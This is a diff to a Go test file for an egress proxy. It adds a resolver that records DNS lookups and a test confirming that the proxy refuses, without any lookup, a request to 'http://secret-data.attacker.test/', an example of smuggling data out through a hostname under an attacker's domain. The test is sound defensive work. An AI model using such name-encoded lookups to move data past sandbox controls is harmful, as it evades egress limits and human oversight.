@@ -2,6 +2,7 @@ package egress
 
 import (
 	"bufio"
+	"context"
 	"crypto/tls"
 	"crypto/x509"
 	"fmt"
@@ -9,6 +10,7 @@ import (
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/netip"
 	"net/url"
 	"os"
 	"strings"
@@ -339,5 +341,36 @@ func TestPolicyRoots(t *testing.T) {
 		if _, err := (Policy{UpstreamCAFile: f}).Roots(); err == nil || !strings.Contains(err.Error(), "upstream_ca_file") {
 			t.Errorf("%s: %v, want an error naming the field", f, err)
 		}
+	}
+}
+
+// recordingResolver counts lookups.
+type recordingResolver struct {
+	egresstest.Resolver
+	mu     sync.Mutex
+	lookup []string
+}
+
+func (r *recordingResolver) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
+	r.mu.Lock()
+	r.lookup = append(r.lookup, host)
+	r.mu.Unlock()
+	return r.Resolver.LookupNetIP(ctx, network, host)
+}
+
+// TestProxyDoesNotLookUpUnlistedNames: the server's resolver is no channel out of the
+// sandbox (data encoded in a name under an attacker's domain), CIDR entries or not.
+func TestProxyDoesNotLookUpUnlistedNames(t *testing.T) {
+	res := &recordingResolver{Resolver: egresstest.Resolver{"listed.test": "203.0.113.1"}}
+	p := newProxy(t, Options{Resolver: res, DialTimeout: time.Second}, Rules{Allow: []string{"listed.test", "0.0.0.0/0", "::/0"}})
+	c := client(t, startProxy(t, p), nil)
+	resp, body := get(t, c, "http://secret-data.attacker.test/")
+	if resp == nil || resp.StatusCode != http.StatusForbidden {
+		t.Fatalf("got %v %q, want 403", resp, body)
+	}
+	res.mu.Lock()
+	defer res.mu.Unlock()
+	if len(res.lookup) != 0 {
+		t.Errorf("the server looked up %q", res.lookup)
 	}
 }
